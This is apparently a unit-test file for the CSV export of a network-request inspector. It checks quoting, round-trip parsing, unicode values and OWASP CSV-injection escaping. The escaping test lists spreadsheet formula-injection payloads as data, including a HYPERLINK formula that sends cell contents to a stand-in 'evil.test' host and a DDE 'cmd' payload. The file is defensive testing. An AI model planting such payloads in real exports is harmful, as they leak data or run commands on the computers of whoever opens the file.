import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buildExport, EXPORT_FILES, exportPreview } from './export';
import { CSV_EXPORT_COLUMNS, csvExportEncoder, csvExportRow } from './export-csv';
import { eventItem, logItem, networkItem } from './item-fixtures';

const FORMULA_START = /^[=+\-@\t\r]/;
const escapedFormula = (cell: string) => (FORMULA_START.test(cell) ? `'${cell}` : cell);
const unescapeFormula = (cell: string) => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);
const parse = (text: string) => Papa.parse<string[]>(text, { header: false, skipEmptyLines: false, newline: '\r\n' });

describe('csv export', () => {
  it('has the columns method, url, status, timestamp and CRLF lines (RFC 4180)', () => {
    const items = [
      networkItem({ num: 1, method: 'POST', url: 'https://x.test/a?b=1,2', status: 201, createdAt: '2026-11-23T10:00:00.000Z' }),
      logItem({ num: 2, createdAt: '2026-11-23T10:00:01.000Z' }),
      networkItem({ num: 3, url: 'https://x.test/"quoted"\nline', status: null, createdAt: '2026-11-23T10:00:02.000Z' }),
    ];
    const text = buildExport(csvExportEncoder(), items);
    expect(text).toBe([
      'method,url,status,timestamp',
      'POST,"https://x.test/a?b=1,2",201,2026-11-23T10:00:00.000Z',
      ',,,2026-11-23T10:00:01.000Z',
      'GET,"https://x.test/""quoted""\nline",,2026-11-23T10:00:02.000Z',
      '',
    ].join('\r\n'));
    expect(EXPORT_FILES.csv.fileName).toBe('spyglass-requests.csv');
  });

  it('parses back with a CSV library to the same rows, whatever the characters', () => {
    // Formula triggers are common starts, so the escaping is exercised on most runs.
    const text = fc.tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '"'), fc.string({ unit: 'grapheme', maxLength: 40 }))
      .map(([start, rest]) => start + rest);
    fc.assert(fc.property(fc.array(fc.record({ method: text, url: text, status: fc.option(fc.integer({ min: 100, max: 599 })) }), { maxLength: 20 }), (rows) => {
      const items = rows.map((r, i) => networkItem({ num: i + 1, method: r.method, url: r.url, status: r.status }));
      const parsed = parse(buildExport(csvExportEncoder(), items));
      expect(parsed.errors).toEqual([]);
      expect(parsed.data[0]).toEqual([...CSV_EXPORT_COLUMNS]);
      const body = parsed.data.slice(1, -1);
      expect(body).toEqual(items.map((item) => Object.values(csvExportRow(item)).map(escapedFormula)));
      // What a reader gets back is the device's text behind at most one added quote.
      for (const [i, item] of items.entries()) {
        expect(body[i]!.slice(0, 2).map(unescapeFormula)).toEqual([csvExportRow(item).method, csvExportRow(item).url]);
      }
      expect(parsed.data.at(-1)).toEqual(['']);
    }), { numRuns: 200 });
  });

  // OWASP "CSV Injection": a cell a spreadsheet would read as a formula starts with ', so it stays text.
  it('escapes cells that a spreadsheet would evaluate, and only those', () => {
    const attacks = ['=1+2', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+2', '\r=1+2', '=HYPERLINK("https://evil.test/?"&A1,"Click")', '=cmd|\'/C calc\'!A0\nsecond line'];
    const items = attacks.map((attack, i) => networkItem({ num: i + 1, method: attack, url: attack, status: 200 }));
    const text = buildExport(csvExportEncoder(), items);
    const parsed = parse(text);
    expect(parsed.errors).toEqual([]);
    for (const [i, attack] of attacks.entries()) {
      expect(parsed.data[i + 1]!.slice(0, 2)).toEqual([`'${attack}`, `'${attack}`]);
    }
    // Quoted as well, as OWASP recommends: no cell of the file starts with a trigger.
    expect(text).toContain(`"'=1+2","'=1+2",200,`);
    const plain = networkItem({ method: 'GET', url: 'https://x.test/a=b+c-d@e', status: 200, createdAt: '2026-11-23T10:00:00.000Z' });
    expect(buildExport(csvExportEncoder(), [plain]).split('\r\n')[1]).toBe('GET,https://x.test/a=b+c-d@e,200,2026-11-23T10:00:00.000Z');
  });

  it('handles empty, huge and unicode values', () => {
    const huge = `https://x.test/${'ä'.repeat(200_000)}`;
    const items = [networkItem({ url: '', method: '' }), networkItem({ url: huge, method: 'GÉT' }), eventItem()];
    const parsed = parse(buildExport(csvExportEncoder(), items));
    expect(parsed.data.slice(1, 4).map((r) => r.slice(0, 3))).toEqual([['', '', '200'], ['GÉT', huge, '200'], ['', '', '']]);
  });

  it('previews the header and the first 10 rows', () => {
    const items = Array.from({ length: 15 }, (_, i) => networkItem({ num: i + 1 }));
    expect(parse(exportPreview('csv', items)).data).toHaveLength(12);
  });
});
